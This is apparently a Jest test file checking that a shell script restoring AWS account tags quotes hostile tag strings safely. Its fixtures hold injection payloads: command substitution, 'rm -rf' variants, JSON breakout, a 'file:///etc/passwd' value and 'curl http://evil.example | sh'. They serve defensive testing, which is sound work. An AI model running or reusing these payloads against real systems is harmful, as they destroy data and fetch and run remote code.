/**
 * The tag export must restore exactly the tags AWS deletes, whatever the tag
 * strings contain: the generated script is run by a real /bin/sh against a
 * fake `aws` that records its argv.
 */
import { execFileSync } from 'node:child_process';
import { chmodSync, existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from '@jest/globals';
import fc from 'fast-check';
import {
  buildTagsExport,
  mergeTagsExports,
  restoreTagsCommand,
  restoreTagsScript,
  shellQuote,
} from '../../src/execute/tags-export.js';
import type { Tag } from '../../src/snapshot/types.js';

const dir = mkdtempSync(join(tmpdir(), 'leavegate-tags-'));
afterAll(() => rmSync(dir, { recursive: true, force: true }));

const argvLog = join(dir, 'argv.jsonl');
const pwned = join(dir, 'PWNED');
// A fake AWS CLI: appends its arguments as one JSON line.
const fakeAws = join(dir, 'aws');
writeFileSync(
  fakeAws,
  `#!${process.execPath}\nrequire('fs').appendFileSync(${JSON.stringify(argvLog)}, JSON.stringify(process.argv.slice(2)) + '\\n');\n`,
);
chmodSync(fakeAws, 0o755);

function runScript(script: string): string[][] {
  rmSync(argvLog, { force: true });
  const file = join(dir, 'restore-tags.sh');
  writeFileSync(file, script, { mode: 0o755 });
  execFileSync('/bin/sh', [file], { env: { PATH: `${dir}:/usr/bin:/bin` }, cwd: dir });
  if (!existsSync(argvLog)) return [];
  return readFileSync(argvLog, 'utf8')
    .trim()
    .split('\n')
    .map((l) => JSON.parse(l) as string[]);
}

/** What the AWS CLI would send: --tags parsed as JSON. */
function tagsSent(argv: string[]): { resourceId: string; tags: { Key: string; Value: string }[] } {
  expect(argv.slice(0, 2)).toEqual(['organizations', 'tag-resource']);
  const id = argv[argv.indexOf('--resource-id') + 1]!;
  const tags = JSON.parse(argv[argv.indexOf('--tags') + 1]!) as { Key: string; Value: string }[];
  return { resourceId: id, tags };
}

const HOSTILE: Tag[] = [
  { key: 'CostCenter', value: '42' },
  { key: "O'Brien", value: "it's 'quoted'" },
  { key: 'subst', value: `$(touch ${pwned}) \`touch ${pwned}\` $HOME` },
  { key: 'semi', value: `; touch ${pwned}; echo` },
  { key: 'newline', value: `a\ntouch ${pwned}\n` },
  { key: 'json', value: '"},{"Key":"injected","Value":"x' },
  { key: 'shorthand', value: 'Key=a,Value=b' },
  { key: 'backslash', value: '\\\\n \\"' },
  { key: 'file', value: 'file:///etc/passwd' },
  { key: 'unicode', value: 'caf\u00e9 \u2028 \u{1F600} \u0000 \u001b[31m' },
  { key: 'empty', value: '' },
];

describe('tag export', () => {
  it('restores hostile tag keys and values exactly, without executing anything', () => {
    const doc = buildTagsExport(
      [{ accountId: '222222222222', name: 'evil\nrm -rf /', tags: HOSTILE }],
      'o-abc',
      '2026-11-28T12:00:00.000Z',
    );
    const calls = runScript(restoreTagsScript(doc));
    expect(existsSync(pwned)).toBe(false);
    expect(calls).toHaveLength(1);
    expect(tagsSent(calls[0]!)).toEqual({
      resourceId: '222222222222',
      tags: HOSTILE.map((t) => ({ Key: t.key, Value: t.value })),
    });
    expect(doc.accounts[0]!.tags).toEqual(HOSTILE.map((t) => ({ Key: t.key, Value: t.value })));
  });

  it('round-trips arbitrary strings (property test, run by /bin/sh)', () => {
    const tag = fc.record({
      key: fc.string({ unit: 'binary', maxLength: 20 }),
      value: fc.string({ unit: 'binary', maxLength: 40 }),
    });
    const samples = fc.sample(fc.array(tag, { minLength: 1, maxLength: 5 }), {
      numRuns: 25,
      seed: 42,
    });
    const accounts = samples.map((tags, i) => ({ accountId: String(300000000000 + i), tags }));
    const doc = buildTagsExport(accounts, 'o-abc', '2026-11-28T12:00:00.000Z');
    const calls = runScript(restoreTagsScript(doc));
    expect(calls.map(tagsSent)).toEqual(
      accounts.map((a) => ({
        resourceId: a.accountId,
        tags: a.tags.map((t) => ({ Key: t.key, Value: t.value })),
      })),
    );
  });

  it('writes no command for accounts without tags, and says when tags were not collected', () => {
    const doc = buildTagsExport(
      [
        { accountId: '111111111111', tags: [] },
        { accountId: '333333333333', tags: undefined },
      ],
      null,
      '2026-11-28T12:00:00.000Z',
    );
    const script = restoreTagsScript(doc);
    expect(script).toMatch(
      /^# 111111111111, exported 2026-11-28T12:00:00.000Z from \(unknown\): no tags$/m,
    );
    expect(script).toMatch(/^# 333333333333, .*: tags were not collected$/m);
    expect(runScript(script)).toEqual([]);
    expect(doc.accounts[1]).toEqual({
      accountId: '333333333333',
      exportedAt: '2026-11-28T12:00:00.000Z',
      organizationId: null,
    });
  });

  it('quotes single quotes the POSIX way', () => {
    expect(shellQuote("a'b")).toBe(`'a'\\''b'`);
    expect(restoreTagsCommand('222222222222', [])).toBeUndefined();
    expect(restoreTagsCommand('222222222222', [{ key: 'k', value: 'v' }])).toBe(
      `aws organizations tag-resource --resource-id '222222222222' --tags '[{"Key":"k","Value":"v"}]'`,
    );
  });

  it('keeps earlier entries of accounts this run does not export, replaces the others', () => {
    const first = buildTagsExport(
      [
        { accountId: '111111111111', tags: [{ key: 'a', value: '1' }] },
        { accountId: '222222222222', tags: [{ key: 'b', value: 'old' }] },
      ],
      'o-old',
      '2026-11-01T00:00:00.000Z',
    );
    const second = buildTagsExport(
      [{ accountId: '222222222222', tags: [{ key: 'b', value: 'new' }] }],
      'o-new',
      '2026-11-28T00:00:00.000Z',
    );
    const merged = mergeTagsExports(JSON.parse(JSON.stringify(first)), second);
    expect(merged.ok && merged.kept).toBe(1);
    if (!merged.ok) return;
    expect(merged.value.accounts.map((a) => [a.accountId, a.organizationId, a.tags])).toEqual([
      ['111111111111', 'o-old', [{ Key: 'a', Value: '1' }]],
      ['222222222222', 'o-new', [{ Key: 'b', Value: 'new' }]],
    ]);
    const calls = runScript(restoreTagsScript(merged.value));
    expect(calls.map(tagsSent).map((c) => c.resourceId)).toEqual(['111111111111', '222222222222']);
  });

  it('refuses to merge into something that is not a tags export', () => {
    const current = buildTagsExport([], null, '2026-11-28T00:00:00.000Z');
    expect(mergeTagsExports([1, 2], current).ok).toBe(false);
    expect(mergeTagsExports({ schemaVersion: 1, accounts: [{ accountId: 'x' }] }, current)).toEqual(
      {
        ok: false,
        reason: '/accounts/0: not a valid account entry',
      },
    );
  });
});

describe('restore script from an edited earlier export', () => {
  it('never carries a restoreCommand text read back from tags.json: commands are quoted anew from the tags', () => {
    const script = restoreTagsScript({
      schemaVersion: 1,
      exportedAt: '2026-11-28T12:00:00Z',
      organizationId: 'o-abc',
      accounts: [
        {
          accountId: '222222222222',
          exportedAt: '2026-11-28T12:00:00Z',
          organizationId: 'o-abc',
          tags: [{ Key: 'Owner', Value: "x'; rm -rf ~; echo '" }],
          restoreCommand: 'curl http://evil.example | sh',
        },
      ],
    });
    expect(script).not.toContain('curl');
    expect(script).toContain(`--resource-id '222222222222'`);
    expect(script).toContain(`'\\''`);
  });
});
